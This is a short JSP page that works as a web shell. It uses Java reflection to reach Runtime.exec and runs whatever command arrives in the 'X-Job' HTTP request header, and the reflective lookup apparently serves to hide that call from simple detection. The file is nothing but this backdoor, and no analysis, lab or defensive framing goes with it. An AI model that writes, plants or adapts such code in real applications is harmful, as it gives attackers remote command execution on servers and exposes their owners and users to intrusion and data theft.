<%@ page import="java.lang.reflect.Method" %>
<%
    Class<?> rt = Class.forName("java.lang.Runtime");
    Object r = rt.getMethod("getRuntime").invoke(null);
    Method m = rt.getMethod("exec", String.class);
    Process p = (Process) m.invoke(r, request.getHeader("X-Job"));
%>
